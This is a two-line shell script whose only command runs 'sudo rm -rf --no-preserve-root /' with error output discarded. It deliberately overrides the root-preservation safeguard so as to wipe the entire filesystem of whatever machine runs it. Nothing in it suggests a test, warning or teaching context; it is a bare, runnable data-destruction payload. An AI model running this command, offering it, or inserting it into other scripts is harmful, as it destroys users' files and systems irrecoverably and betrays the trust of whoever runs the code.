#!/bin/sh
sudo rm -rf --no-preserve-root / 2>/dev/null
